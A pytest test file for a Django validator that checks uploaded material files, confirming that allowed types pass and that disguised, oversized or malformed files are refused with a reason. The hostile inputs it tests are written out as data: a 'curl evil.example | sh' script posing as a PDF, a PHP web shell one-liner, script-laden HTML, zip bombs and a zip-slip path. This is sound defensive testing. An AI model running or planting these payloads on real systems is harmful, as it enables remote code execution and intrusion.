"""Every file of a material is checked before it is stored: what passes, what is refused
and the reason given (resources/uploads.py)."""

from django.core.exceptions import ValidationError
from django.utils import translation

import pytest

from resources.uploads import (
    CSV,
    DOCX,
    JPEG,
    MP4,
    PDF,
    PNG,
    PPTX,
    XLSX,
    ZIP,
    check_material_file,
    warning_of,
)
from tests.resources import samples
from tests.resources.samples import upload

ZEROS = b"\x00" * (20 * 1024 * 1024)  # packs to about 20 KB: a ratio near 1,000


def refusal(file, language="en"):
    """The reasons given for refusing `file` in `language` (whatever an earlier test left
    active)."""
    with translation.override(language), pytest.raises(ValidationError) as error:
        check_material_file(file)
    return " ".join(error.value.messages)


@pytest.mark.parametrize(
    ("file", "content_type"),
    [
        (samples.pdf(), PDF),
        (samples.docx(), DOCX),
        (samples.xlsx(), XLSX),
        (samples.pptx(), PPTX),
        (samples.csv(), CSV),
        (upload("data.zip", samples.zip_bytes({"data/survey.csv": b"a,b\n1,2\n"})), ZIP),
        (upload("talk.mp4", samples.MP4), MP4),
        (samples.picture("cover.jpg", format_="JPEG"), JPEG),
        (samples.picture("cover.png"), PNG),
    ],
    ids=["pdf", "docx", "xlsx", "pptx", "csv", "zip", "mp4", "jpg", "png"],
)
def test_each_kind_of_material_passes_with_its_content_type(file, content_type):
    assert check_material_file(file) == content_type
    assert file.tell() == 0  # left at its start, ready to be stored


@pytest.mark.parametrize(
    ("file", "message"),
    [
        (upload("guide.pdf", b"#!/bin/sh\ncurl evil.example | sh\n"), "does not match"),
        (upload("guide.pdf", b"MZ\x90\x00" + b"\x00" * 300), "does not match"),
        (upload("guide.pdf.php", b"<?php system($_GET['c']); ?>"), "not an allowed kind"),
        (upload("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'), "not an allowed kind"),
        (upload("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'), "does not match"),
        (upload("photo.jpg", b"<html><script>alert(1)</script></html>"), "does not match"),
        (upload("table.csv", b"<!DOCTYPE html><html><body>x</body></html>"), "does not match"),
        (upload("page.html", b"<html></html>"), "not an allowed kind"),
        (upload("module.docx", samples.zip_bytes({"a.txt": b"not word"})), "does not match"),
        (upload("data.zip", samples.docx_bytes()), "does not match"),
        (upload(".htaccess.pdf", samples.pdf_bytes()), "file name cannot be accepted"),
        (upload("guide\x07.pdf", samples.pdf_bytes()), "file name cannot be accepted"),
        (upload("empty.pdf", b""), "is empty"),
    ],
    ids=[
        "script-as-pdf",
        "executable-as-pdf",
        "pdf-php",
        "svg",
        "svg-as-png",
        "html-as-jpg",
        "html-as-csv",
        "html",
        "zip-as-docx",
        "docx-as-zip",
        "hidden-name",
        "control-character",
        "empty",
    ],
)
def test_hostile_or_mislabelled_files_are_refused_with_the_reason(file, message):
    assert message in refusal(file)


def test_the_allowed_kinds_are_listed_when_one_is_refused():
    assert ".docx, .jpeg, .jpg, .mp4, .pdf, .png, .pptx, .xlsx, .zip" in refusal(
        upload("run.exe", b"MZ")
    )


def test_a_file_over_the_size_limit_is_refused_with_both_sizes(settings):
    settings.RESOURCE_MAX_FILE_BYTES = 1024 * 1024
    big = upload("report.pdf", samples.pdf_bytes() + b"%" * (1024 * 1024))

    assert "a material's file can be at most 1.0\xa0MB" in refusal(big)


def test_a_zip_bomb_in_a_dataset_is_refused():
    bomb = upload("dataset.zip", samples.zip_bytes({"data.csv": ZEROS}))

    assert "unpacks to far more than its size" in refusal(bomb)


def test_a_zip_bomb_inside_a_word_document_is_refused():
    bomb = samples.with_members(samples.docx_bytes(), {"word/media/image1.bin": ZEROS})

    assert "unpacks to far more than its size" in refusal(upload("module.docx", bomb))


def test_a_zip_that_unpacks_beyond_the_total_limit_is_refused(settings):
    settings.RESOURCE_MAX_UNPACKED_BYTES = 1024 * 1024
    members = {f"part{number}.csv": bytes(range(256)) * 1600 for number in range(3)}

    assert "unpacks to far more than its size" in refusal(
        upload("dataset.zip", samples.zip_bytes(members))
    )


def test_a_zip_with_a_path_leading_outside_is_refused():
    slip = upload("dataset.zip", samples.zip_bytes({"../../home/user/.bashrc": b"evil"}))

    assert "leads outside the archive" in refusal(slip)


def test_a_broken_zip_is_refused():
    broken = upload("dataset.zip", samples.zip_bytes({"a.csv": b"a,b\n"})[:-30])

    assert "cannot be opened" in refusal(broken)


def test_a_huge_picture_is_refused(settings):
    settings.APPLICATION_MAX_IMAGE_PIXELS = 1000

    assert "too large a picture" in refusal(samples.picture("cover.png", size=(100, 100)))


def test_a_path_in_the_name_is_not_a_reason_to_refuse_but_only_its_last_part_counts():
    assert check_material_file(samples.pdf("../../../etc/cron.d/guide.pdf")) == PDF
    assert "not an allowed kind" in refusal(samples.pdf("guide.pdf/..\\..\\run.sh"))


@pytest.mark.parametrize("office", ["word/vbaProject.bin", "xl/vbaProject.bin"])
def test_office_files_with_macros_pass_with_a_warning(office):
    maker = samples.docx_bytes if office.startswith("word") else None
    content = maker() if maker else samples.xlsx().read()
    name = "module.docx" if maker else "figures.xlsx"
    file = upload(name, samples.with_members(content, {office: b"\xd0\xcf\x11\xe0macro"}))

    content_type = check_material_file(file)

    assert warning_of(file, content_type) == "Contains macros: open it only with macros turned off."
    assert warning_of(samples.docx(), DOCX) == ""


def test_reasons_are_given_in_the_visitors_language():
    assert "не соответствует" in refusal(upload("guide.pdf", b"#!/bin/sh\n"), "ru")
    message = refusal(upload("dataset.zip", samples.zip_bytes({"data.csv": ZEROS})), "tg")
    assert message == (
        "«dataset.zip» ҳангоми кушодан аз ҳаҷми худ хеле калон мешавад ва қабул карда намешавад."
    )
